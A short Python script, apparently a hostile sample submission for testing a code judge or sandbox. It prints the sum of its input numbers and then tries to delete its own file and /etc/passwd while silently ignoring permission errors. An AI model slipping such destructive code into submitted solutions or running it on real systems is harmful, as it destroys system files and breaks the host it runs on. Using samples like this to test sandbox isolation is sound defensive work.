"""A solution somebody handed in: prints the sum of the numbers it is given, and breaks what it can."""

import contextlib
import os
import sys

print(sum(int(word) for word in sys.stdin.read().split()))
for path in (__file__, "/etc/passwd"):
    with contextlib.suppress(PermissionError):
        os.remove(path)
